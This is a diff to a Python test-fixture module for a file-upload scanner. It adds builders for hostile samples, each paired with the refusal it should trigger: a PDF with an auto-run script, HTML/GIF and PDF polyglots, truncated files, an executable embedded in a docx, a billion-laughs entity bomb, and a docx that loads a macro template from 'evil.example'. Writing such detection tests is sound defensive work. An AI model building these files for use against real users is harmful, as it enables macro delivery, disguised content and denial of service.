@@ -70,6 +70,58 @@ def locked_pdf() -> bytes:
     return pdf(lock=pikepdf.Encryption(user='mật', owner='mật', R=6))
 
 
+def named_script_pdf() -> bytes:
+    """Return a PDF with a script in its list of scripts, which readers run when they open it."""
+    action = pikepdf.Dictionary(S=pikepdf.Name('/JavaScript'), JS='app.alert(1)')
+    scripts = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String('x'), action]))
+    return pdf(lambda made: made.Root.__setitem__('/Names', pikepdf.Dictionary(JavaScript=scripts)))
+
+
+def page_pdf() -> bytes:
+    """Return a PDF that is a page with a script to a browser that guesses."""
+    return b'%PDF-1.7\n%' + HTML + b'\n' + pdf()[9:]
+
+
+def archive_pdf() -> bytes:
+    """Return a PDF that is an office file to whoever reads from its end."""
+    return pdf() + office()
+
+
+def page_picture() -> bytes:
+    """Return a page that begins as a picture does."""
+    return b'GIF89a/*' + HTML
+
+
+def cut_jpeg() -> bytes:
+    """Return the first half of a photograph."""
+    out = io.BytesIO()
+    Image.effect_noise((300, 300), 90).save(out, 'JPEG')
+    return out.getvalue()[: len(out.getvalue()) // 2]
+
+
+def cut_pdf() -> bytes:
+    """Return a PDF without its end."""
+    return pdf()[:-40]
+
+
+def template() -> bytes:
+    """Return an office file that gets its template, and the macros in it, from elsewhere."""
+    kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
+    relation = f'<Relationship Id="r" Type="{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+    return office(**{'word/_rels/settings.xml.rels': f'<Relationships>{relation}</Relationships>'.encode()})
+
+
+def inside() -> bytes:
+    """Return an office file with a program in it."""
+    return office(**{'word/embeddings/oleObject1.bin': EXE})
+
+
+def entities() -> bytes:
+    """Return an office file whose text unfolds to gigabytes."""
+    rows = ''.join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
+    return office(**{'word/styles.xml': f'<!DOCTYPE x [<!ENTITY e0 "lol">{rows}]><x>&e9;</x>'.encode()})
+
+
 def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
     """Return a whole picture of a hundred kilobytes that unpacks to more than a hundred megabytes."""
 
@@ -88,6 +140,7 @@ def office(**members: bytes) -> bytes:
     """Return an office file with these members besides the document."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr('[Content_Types].xml', b'<Types/>')
         archive.writestr(WORD, b'<w:document/>')
         for name, content in members.items():
             archive.writestr(name, content)
@@ -132,5 +185,14 @@ CASES: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
     ('bomb.docx', bomb, 'application/zip', 'too_large'),
     ('lying.docx', lying_bomb, 'application/zip', 'broken'),
     ('macros.docx', macros, 'application/zip', 'macros'),
+    ('named.pdf', named_script_pdf, 'application/pdf', 'active_pdf'),
+    ('page.pdf', page_pdf, 'application/pdf', 'mixed'),
+    ('archive.pdf', archive_pdf, 'application/pdf', 'mixed'),
+    ('page.gif', page_picture, 'image/gif', 'kind'),
+    ('half.jpg', cut_jpeg, 'image/jpeg', 'broken'),
+    ('half.pdf', cut_pdf, 'application/pdf', 'broken'),
+    ('template.docx', template, 'application/zip', 'linked_office'),
+    ('inside.docx', inside, 'application/zip', 'embedded_office'),
+    ('entities.docx', entities, 'application/zip', 'broken'),
 )
 """Name, contents, the type it is said to have, and the key of the sentence with which it is refused."""
